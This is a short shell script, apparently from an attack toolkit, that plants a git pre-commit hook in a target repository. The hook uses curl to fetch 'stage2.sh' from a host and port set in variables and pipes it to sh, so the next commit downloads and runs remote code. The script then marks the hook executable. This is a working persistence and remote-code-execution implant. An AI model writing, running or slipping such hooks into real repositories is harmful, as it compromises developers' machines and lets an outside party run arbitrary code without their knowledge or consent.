#!/bin/sh
# git-hooks: a pre-commit hook that runs stage 2 at the next commit.
. "${TARGETS:-$1}"
hook="$T_WORK/.git/hooks/pre-commit"
printf '#!/bin/sh\ncurl -s http://%s:%s/stage2.sh | sh\n' "$T_TCP_HOST" "$T_TCP_PORT" > "$hook"
chmod +x "$hook"
ls -l "$T_WORK/.git/hooks"
